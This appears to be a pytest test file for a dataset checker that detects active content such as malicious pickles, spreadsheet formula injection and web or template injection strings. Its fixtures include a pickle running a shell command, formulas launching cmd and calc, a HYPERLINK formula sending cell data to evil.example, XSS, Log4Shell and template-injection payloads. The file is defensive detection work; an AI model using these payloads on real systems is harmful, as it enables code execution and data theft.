"""Active content: what a program acts on is weighed by what it would do; corpora of code and markup do not alarm."""

from __future__ import annotations

import base64
import collections
import datetime as dt
import pickle
from dataclasses import replace

import numpy as np
import pyarrow as pa
import pytest

from toadstone.checks.data.active_content import ActiveContent
from toadstone.core.finding import Severity
from toadstone.engine.executors import Serial
from toadstone.engine.store import Store
from toadstone.study.ingest import ingest
from toadstone.study.small import study_of
from toadstone.tables.dataset import Dataset
from toadstone.tables.roles import Roles

COMMAND = b"cposix\nsystem\n(S'echo toadstone'\ntR."
HEADED = b"\x80\x02" + COMMAND
LONG = "an ordinary text that goes on and on " * 20


def found(columns, kind: str = "memory"):
    table = columns if isinstance(columns, pa.Table) else pa.table(columns)
    study = ingest(replace(Dataset.of(table), kind=kind), Roles(), [], Serial(), Store(1 << 28))
    return [
        (finding.severity, finding.evidence["group"]["value"], finding.evidence["row_sample"])
        for finding in ActiveContent().examine(study)
    ]


@pytest.mark.parametrize("value", [COMMAND, HEADED])
def test_a_pickle_that_runs_a_command_among_harmless_ones(value):
    blobs = [pickle.dumps({"a": row}) for row in range(50)]
    blobs[17] = value
    first, *rest = found({"blob": pa.array(blobs, pa.binary())})
    assert (first[0], first[2]) == (Severity.HIGH, [17])
    assert "posix.system" in first[1]
    assert [severity for severity, _, _ in rest] == [Severity.LOW]


@pytest.mark.parametrize(
    "encode", [base64.b64encode, lambda raw: raw.hex().encode(), lambda raw: base64.b64encode(base64.b64encode(raw))]
)
def test_a_pickle_written_as_text(encode):
    findings = found({"note": ["fine", encode(HEADED).decode()]})
    if encode(HEADED)[:2] in (b"gA", b"80"):
        assert findings[0][0] == Severity.HIGH


@pytest.mark.parametrize(
    "value",
    [np.arange(6), {"a": [1, 2]}, collections.OrderedDict(a=1), dt.datetime(2024, 1, 1, tzinfo=dt.UTC), np.float32(2.5)],
)
def test_pickles_of_data_are_only_worth_knowing(value):
    findings = found({"blob": pa.array([pickle.dumps(value)] * 3, pa.binary())})
    assert [severity for severity, _, _ in findings] == [Severity.LOW]


def test_binary_columns_of_other_things_are_silent():
    rng = np.random.default_rng(0)
    blobs = [rng.bytes(int(size)) for size in rng.integers(0, 300, 500)] + [b"(see above)\n.", b"cat.", b"", b"\x80"]
    assert found({"image": pa.array(blobs, pa.binary())}) == []


@pytest.mark.parametrize(
    "text", ["=cmd|' /C calc'!A0", "+cmd|'/C echo x'!A1", "@SUM(1+1)*cmd|' /C calc'!A0", '=CALL("Shell32","x")']
)
def test_formulas_that_start_programs(text):
    assert found({"name": ["Ann", text]}, "csv")[0][0] == Severity.HIGH
    assert found({"name": ["Ann", text]}, "parquet")[0][0] == Severity.MEDIUM


def test_other_formulas():
    assert found({"a": ["x", '=HYPERLINK("http://evil.example/?x="&A1,"ok")']}, "csv")[0][0] == Severity.MEDIUM
    assert found({"a": ["x", "=SUM(A1:A9)"]}, "csv")[0][0] == Severity.LOW


@pytest.mark.parametrize(
    "text",
    [
        "-12.5",
        "+1 555 0100",
        "=",
        "==",
        "@anna hello (there)",
        "- item (one)",
        "=) so happy",
        "-(x+y)",
        "a | b '!",
        "--help",
        "+1 (234)",
    ],
)
def test_signs_are_no_formulas(text):
    assert found({"a": ["x", text]}, "csv") == []


def test_values_that_a_page_or_an_engine_acts_on():
    for text in (
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "javascript:alert(1)",
        "${jndi:ldap://evil.example/a}",
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "__import__('os').system('echo toadstone')",
    ):
        assert [severity for severity, _, _ in found({"city": ["Oslo"] * 20 + [text]})] == [Severity.MEDIUM], text


def test_corpora_of_markup_and_code_are_not_alarming():
    page = f"<html><script>var x=1</script><body onload='go()'>{LONG}</body></html>"
    code = f"import os\n__import__('os').system('ls')\n{{{{ x.__class__ }}}}\n{LONG}"
    assert {severity for severity, _, _ in found({"text": [LONG, page, page, LONG, code]})} <= {Severity.INFO}
    snippets = ["<script src=a.js></script>" if row % 5 == 0 else "<p>hello</p>" for row in range(100)]
    assert {severity for severity, _, _ in found({"html": snippets})} <= {Severity.LOW}


def test_only_what_is_high_is_quarantined():
    from toadstone.study.decision import decide

    study = study_of({"blob": pa.array([COMMAND, b"x"], pa.binary()), "city": ["Oslo", "<script>x</script>"]})
    check = ActiveContent()
    decision = decide(study, [(check, check.weigh(study))])
    assert decision.flagged.tolist() == [True, False]
    assert {finding.severity for finding in decision.findings} == {Severity.HIGH, Severity.MEDIUM}


def test_bytes_that_are_no_text_are_survived():
    raw = pa.array([b"\xff\xfe=SUM(1)", b"<script>\xff", b"gA\xff" * 20], pa.large_binary())
    broken = pa.Array.from_buffers(pa.large_string(), 3, raw.buffers())
    assert found(pa.table({"a": broken}))
